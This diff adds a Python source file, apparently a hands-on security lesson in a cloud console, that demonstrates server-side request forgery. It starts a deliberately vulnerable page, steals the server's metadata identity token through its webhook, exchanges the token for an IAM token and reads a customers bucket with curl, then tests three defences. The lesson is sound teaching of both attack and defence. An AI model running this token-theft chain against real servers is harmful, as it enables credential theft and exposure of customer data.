@@ -1,0 +1,194 @@
+"""Lesson 7: a page with a hole is used to steal a server's identity, and three defences are tried on it."""
+
+import shlex
+from typing import Any
+
+from controlplane.activity.models import ActivityEvent
+from controlplane.console.lessons.lesson import Check, Command, Drawn, Evidence, Lesson, Place, Seen
+from controlplane.console.lessons.pasting import A_PORT, MAY_SWITCH, MEMBER, QUERY, address, example, switched
+from identity.services.grants import COMPUTE_RESOURCE_LOGIN
+from identity.services.identity_tokens import EVENT as IDENTITY_TOKEN
+
+PAGE = "link-preview"
+"""How examples/ssrf/vulnerable.py calls itself in its requests."""
+OBJECT_READ = "cloud-object-storage.object.read"
+MAKES_PROFILES = "iam-identity.profile.create"
+
+
+def _stolen(evidence: Evidence) -> Seen | None:
+    event = evidence.first(IDENTITY_TOKEN, on=evidence.place.server.crn, where=_by_the_page)
+    return Seen(f"The page asked, so {event.initiator_name} asked: it got a token.", event) if event else None
+
+
+def _exchanged(evidence: Evidence) -> Seen | None:
+    event = evidence.first(
+        COMPUTE_RESOURCE_LOGIN,
+        after="stolen",
+        where=lambda each: evidence.place.server.crn in (each.initiator_id, each.target_id),
+    )
+    return (
+        Seen("It was exchanged for an IAM token, from elsewhere: nobody asks where it came from.", event)
+        if event
+        else None
+    )
+
+
+def _read(evidence: Evidence) -> Seen | None:
+    event = evidence.first(OBJECT_READ, after="exchanged", where=_customers(evidence))
+    return Seen(f"{event.data['object']} was read from {event.target_name}.", event) if event else None
+
+
+def _get(evidence: Evidence) -> Seen | None:
+    event = _page_refused(evidence, 405, after="read")
+    return Seen("The page sent a GET, and got 405.", event) if event else None
+
+
+def _no_header(evidence: Evidence) -> Seen | None:
+    event = _page_refused(evidence, 400, after="get")
+    return Seen(f"It sent a PUT without the header, and got 400: {event.message}", event) if event else None
+
+
+def _plain(evidence: Evidence) -> Seen | None:
+    event = _page_refused(evidence, 403, after="header")
+    return Seen(f"With the service at https, it got 403: {event.message}", event) if event else None
+
+
+def _limited(evidence: Evidence) -> Seen | None:
+    event = evidence.first(OBJECT_READ, success=False, after="https", where=_customers(evidence))
+    return Seen(f"The same stolen token was refused at {event.target_name}.", event) if event else None
+
+
+def _page_refused(evidence: Evidence, status: int, *, after: str) -> Any:
+    return evidence.first(
+        IDENTITY_TOKEN,
+        on=evidence.place.server.crn,
+        success=False,
+        after=after,
+        where=lambda each: each.reason_code == status and _by_the_page(each),
+    )
+
+
+def _by_the_page(event: ActivityEvent) -> bool:
+    return event.initiator_agent == PAGE
+
+
+def _customers(evidence: Evidence) -> Any:
+    return lambda event: event.target_name == f"{evidence.place.name}-customers"
+
+
+def _commands(place: Place) -> list[Command]:
+    name, shop = place.server.name, place.name
+    store = f"{place.control_plane}/cos/{shop}"
+    steal = f"webhook PUT \"$URL/identity/v1/token?{QUERY}\" 'Metadata-Flavor: ibm'"
+    use = f'curl -s {store}-customers/customers.csv -H "Authorization: Bearer $IAM"; echo'
+    return [
+        Command(
+            "Something to steal",
+            f"{switched(name, protocol='http')}\npython3 {example('ssrf/shop.py')} wide {shlex.quote(name)} {shop}",
+            f"A shop: two buckets, and a trusted profile {shop} for its web server. The server needs the pages. "
+            "It was given everything, as it was less work.",
+            needs=MAKES_PROFILES,
+        ),
+        Command(
+            "A page with a hole",
+            f"{A_PORT}\nURL={address(name)}\n"
+            f"timeout 30m python3 {example('ssrf/vulnerable.py')} $PORT > /dev/null 2>&1 &\nPAGE=$!\n"
+            f"{MEMBER}\n"
+            'webhook() { curl -sG --retry 5 --retry-connrefused "http://127.0.0.1:$PORT/webhook" '
+            '--data-urlencode "method=$1" --data-urlencode "url=$2" --data-urlencode "header=$3"; }',
+            "A program on the server fetches what its visitors name: a preview of a link, a trial of a webhook. It "
+            "listens on this machine alone, calls metadata services alone, and says so. Read it, it is short. Look "
+            "for THE HOLE.",
+        ),
+        Command(
+            "Steal the identity",
+            f"STOLEN=$({steal} | member access_token)\necho ${{#STOLEN}} characters",
+            "You are a visitor. You may not call the metadata service of that server; the page may. It does it for "
+            "you, and shows you the answer.",
+        ),
+        Command(
+            "Use it from elsewhere",
+            f"IAM=$(curl -s {place.control_plane}/identity/token "
+            "-d grant_type=urn:ibm:params:oauth:grant-type:cr-token "
+            f'-d cr_token="$STOLEN" -d profile_name={shop} | member access_token)\n{use}',
+            "This part runs on your own machine. A token says who; it does not say from where. So the thief reads what "
+            "the server may read: the customers.",
+        ),
+        Command(
+            "Defence 1: method and header",
+            'curl -sG "http://127.0.0.1:$PORT/preview" '
+            f'--data-urlencode "url=$URL/identity/v1/token?{QUERY}"; echo\n'
+            f"webhook PUT \"$URL/identity/v1/token?{QUERY}\" 'X-Other: ibm'; echo",
+            "The preview lets you choose an address and no more, as most such holes do. It sends a GET: 405. A PUT "
+            "without the header Metadata-Flavor: 400. This defence is always on. It stops every hole where a visitor "
+            "chooses the address alone, and it does not stop this webhook, where they choose method and header too.",
+        ),
+        Command(
+            "Defence 2: https",
+            f"{switched(name, protocol='https')}\n"
+            f"{steal}; echo\nSECURE={address(name)}\n"
+            f"webhook PUT \"$SECURE/identity/v1/token?{QUERY}\" 'Metadata-Flavor: ibm'; echo\n"
+            f"{switched(name, protocol='http')}",
+            "Over http: 403. Over https the page does not believe the certificate, for it trusts the usual "
+            "authorities. That also stops holes that write raw bytes to a port, which can speak http and no TLS. It "
+            "does not stop a page that trusts the right authority, or that checks nothing: start the page with "
+            "SSL_CERT_FILE set to Baremint's CA bundle, and the theft works again.",
+            needs=MAY_SWITCH,
+        ),
+        Command(
+            "Defence 3: a smaller profile",
+            f"python3 {example('ssrf/shop.py')} small {shlex.quote(name)} {shop}\n{use}\n"
+            f'curl -s {store}-pages/index.html -H "Authorization: Bearer $IAM"\nkill $PAGE',
+            "The thief still has the token, and it still works: for the pages, which everybody may see. This defence "
+            "stops no theft. It is the only one that holds whatever the hole is, and it counts for tokens that are "
+            "already stolen, as soon as a service asks what they may do.",
+            needs=MAKES_PROFILES,
+        ),
+    ]
+
+
+LESSON = Lesson(
+    slug="ssrf",
+    title="Attack and defence: a page that calls for others",
+    goal="Steal a server's identity through a hole in its web page, and see what each of three defences is worth.",
+    why=(
+        "The metadata service knows a caller by where the call comes from. So whoever gets a program on the server to "
+        "make a call for them is taken for the server. This is server-side request forgery, SSRF. It is an old hole "
+        "and a common one: every function that fetches an address which a visitor names may be one.",
+        "The true mend is in the page: fetch from places that you listed, and from no others. But the platform has to "
+        "reckon with pages that were not mended. Its defences make the hole worth less.",
+        "Ask of each defence what a visitor would have to control to get past it. The address alone? The method and "
+        "the headers? Raw bytes? What the page trusts? A program of their own on the server gets past the first two "
+        "always: for that there are only small rights, short lives, and the switch that makes every identity token "
+        "of the server worthless at once.",
+    ),
+    parties=("Visitor", "Page on {server}", "Metadata service", "IAM, object store"),
+    drawn=(
+        Drawn(0, 1, "call this for me", "stolen"),
+        Drawn(1, 2, "PUT token, with header", "stolen"),
+        Drawn(2, 1, "identity token", "stolen"),
+        Drawn(1, 0, "identity token", "stolen"),
+        Drawn(0, 3, "exchange it for an IAM token", "exchanged"),
+        Drawn(3, 0, "the customers", "read"),
+        Drawn(1, 2, "GET token", "get", "refused"),
+        Drawn(1, 2, "PUT token, no header", "header", "refused"),
+        Drawn(1, 2, "PUT over http", "https", "refused"),
+        Drawn(3, 0, "no customers for you", "limited", "refused"),
+    ),
+    commands=_commands,
+    checks=(
+        Check("stolen", "Identity stolen", "Let the page ask for a token, by its webhook.", _stolen),
+        Check("exchanged", "Exchanged", "Exchange it for an IAM token, from your own machine.", _exchanged),
+        Check("read", "Customers read", "Read the customers with it.", _read),
+        Check("get", "Defence 1: a GET gets nothing", "Try it by the preview of a link.", _get),
+        Check("header", "Defence 1: no header, no token", "Try a PUT without the header.", _no_header),
+        Check("https", "Defence 2: not over http", "Set the server to https, and let the page try.", _plain),
+        Check("limited", "Defence 3: worth less", "Make the profile smaller, use the stolen token again.", _limited),
+    ),
+    watches=(IDENTITY_TOKEN, COMPUTE_RESOURCE_LOGIN, OBJECT_READ),
+    lab="In the lab, start the page with baremint enter, and be a visitor inside the same server: there the address is "
+    "169.254.169.254, as it is in a cloud. Programs in the lab trust Baremint's authority, so there the second "
+    "defence stops http alone.",
+    warning="The page is vulnerable on purpose. Stop it when you are done; it stops by itself after half an hour.",
+    prefers=lambda server: bool(getattr(server, "metadata_enabled", False)),
+)
